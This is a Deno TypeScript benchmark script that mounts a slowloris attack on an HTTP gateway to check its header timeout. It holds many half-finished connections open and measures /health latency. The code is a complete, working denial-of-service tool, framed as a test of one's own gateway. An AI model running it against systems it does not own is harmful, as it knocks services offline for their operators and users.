/**
 * A slowloris attack on a running gateway, to see its header timeout work:
 * opens many connections that send a request head a line at a time and
 * never finish it, reports how many the gateway still holds open at 5, 10
 * and 15 s, and measures /health meanwhile.
 *
 * ```sh
 * deno run --allow-net bench/slowloris.ts http://127.0.0.1:8000 [--connections=1000] [--line-every-ms=2000]
 * ```
 *
 * Needs a file-descriptor limit above the connection count (`ulimit -n`).
 * Only run it against a gateway you own.
 */

const args = Object.fromEntries(
  Deno.args.filter((a) => a.startsWith("--")).map((a) => a.slice(2).split("=")),
);
const target = new URL(Deno.args.find((a) => !a.startsWith("--")) ?? "http://127.0.0.1:8000");
const connections = Number(args.connections ?? 1000);
const lineEveryMs = Number(args["line-every-ms"] ?? 2000);
const checkpoints = [5, 10, 15];
const enc = new TextEncoder();

interface Victim {
  conn: Deno.TcpConn;
  closedAt?: number;
  answer?: string;
}

const started = performance.now();
const victims: Victim[] = [];
let connectErrors = 0;

async function open(): Promise<void> {
  let conn: Deno.TcpConn;
  try {
    conn = await Deno.connect({ hostname: target.hostname, port: Number(target.port || 80) });
  } catch {
    connectErrors++;
    return;
  }
  const v: Victim = { conn };
  victims.push(v);
  // Watch for the gateway closing it (after an answer such as 408, or none).
  (async () => {
    const buf = new Uint8Array(1024);
    for (;;) {
      const n = await conn.read(buf).catch(() => null);
      if (n === null) break;
      v.answer ??= new TextDecoder().decode(buf.subarray(0, n)).split("\r\n")[0];
    }
    v.closedAt = performance.now() - started;
  })();
  await conn.write(enc.encode(`GET /health HTTP/1.1\r\nHost: ${target.host}\r\n`)).catch(() => {});
}

// Open in batches, as fast as the gateway accepts.
for (let i = 0; i < connections; i += 50) {
  await Promise.all(Array.from({ length: Math.min(50, connections - i) }, open));
}
console.log(
  `opened ${victims.length} slow connections in ${Math.round(performance.now() - started)} ms` +
    (connectErrors ? ` (${connectErrors} connects failed)` : ""),
);

// Keep every head unfinished: one more header line now and then.
let line = 0;
const dripper = setInterval(() => {
  line++;
  for (const v of victims) {
    if (v.closedAt === undefined) v.conn.write(enc.encode(`X-Slow-${line}: a\r\n`)).catch(() => {});
  }
}, lineEveryMs);

// Meanwhile, how long does /health take?
const latencies: number[] = [];
let healthErrors = 0;
let probing = true;
const prober = (async () => {
  const url = new URL("/health", target);
  while (probing) {
    const t0 = performance.now();
    try {
      const res = await fetch(url, { signal: AbortSignal.timeout(5_000) });
      await res.body?.cancel();
      if (res.ok) latencies.push(performance.now() - t0);
      else healthErrors++;
    } catch {
      healthErrors++;
    }
    await new Promise((r) => setTimeout(r, 100));
  }
})();

const pct = (xs: number[], p: number) => {
  if (xs.length === 0) return NaN;
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))];
};

for (const at of checkpoints) {
  await new Promise((r) => setTimeout(r, Math.max(0, at * 1000 - (performance.now() - started))));
  const open = victims.filter((v) => v.closedAt === undefined).length;
  console.log(
    `t=${String(at).padStart(2)} s: ${open} of ${victims.length} slow connections still open; ` +
      `/health ${latencies.length} ok, ${healthErrors} failed, ` +
      `p50 ${pct(latencies, 50).toFixed(1)} ms, p99 ${pct(latencies, 99).toFixed(1)} ms, ` +
      `max ${Math.max(...latencies, 0).toFixed(1)} ms`,
  );
}

probing = false;
clearInterval(dripper);
await prober;
const answers = new Map<string, number>();
for (const v of victims) {
  const k = v.closedAt === undefined ? "still open" : v.answer ?? "closed without an answer";
  answers.set(k, (answers.get(k) ?? 0) + 1);
}
console.log("what the slow connections got:", Object.fromEntries(answers));
const closedTimes = victims.flatMap((v) => v.closedAt === undefined ? [] : [v.closedAt]);
if (closedTimes.length) {
  console.log(
    `closed between ${(Math.min(...closedTimes) / 1000).toFixed(1)} s and ` +
      `${(Math.max(...closedTimes) / 1000).toFixed(1)} s after the attack began`,
  );
}
for (const v of victims) {
  try {
    v.conn.close();
  } catch { /* closed */ }
}
